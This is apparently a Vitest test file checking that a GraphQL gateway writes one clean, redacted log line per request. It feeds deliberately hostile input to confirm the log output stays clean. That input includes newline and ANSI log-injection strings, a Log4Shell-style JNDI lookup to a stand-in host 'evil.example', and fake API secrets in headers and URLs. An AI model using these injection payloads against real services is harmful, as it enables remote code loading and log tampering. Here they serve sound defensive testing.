import { pino } from 'pino'
import { expect, test } from 'vitest'
import { ask, createTestGateway } from '../support.ts'

test('each request is one line with what an operator needs', async () => {
  const { gateway, lines } = createTestGateway()
  await ask(gateway, 'query Front {hello}', { 'x-request-id': 'abc' })
  expect(lines).toEqual([
    {
      level: 'info',
      message: 'request',
      fields: {
        method: 'POST',
        path: '/graphql',
        status: 200,
        ms: expect.any(Number) as number,
        statements: 0,
        requestId: 'abc',
        operation: 'Front',
      },
    },
  ])
})

test('nothing a client says breaks a line or carries a key into it', async () => {
  const written: string[] = []
  const log = pino({}, { write: (line: string) => void written.push(line) })
  const { gateway } = createTestGateway({ log })
  const evil = 'a\nlevel=60 \u001b[31m ${jndi:ldap://evil.example/x} mh_live_SECRET'
  await ask(gateway, { query: '{hello}', operationName: evil })
  await ask(gateway, { query: `query ${'A'.repeat(99)} {fails(how:"error")}` })
  await ask(gateway, '{hello}', {
    'user-agent': '${jndi:x}',
    authorization: 'Bearer mh_live_SECRET',
    'x-request-id': '${jndi:x}',
  })
  await gateway.fetch('http://localhost/graphql?query={hello}&api_key=mh_live_SECRET')
  await gateway.fetch('http://localhost/mh_live_SECRET/%1b[31m')
  await gateway.fetch('http://localhost/graphql', { method: 'EVIL' })
  expect(written.length).toBe(7)
  for (const line of written) {
    expect(line.trimEnd()).not.toMatch(/[\p{Cc}]/u)
    expect(line).not.toMatch(/jndi|SECRET|EVIL/)
    expect(JSON.parse(line)).toBeTypeOf('object')
  }
})
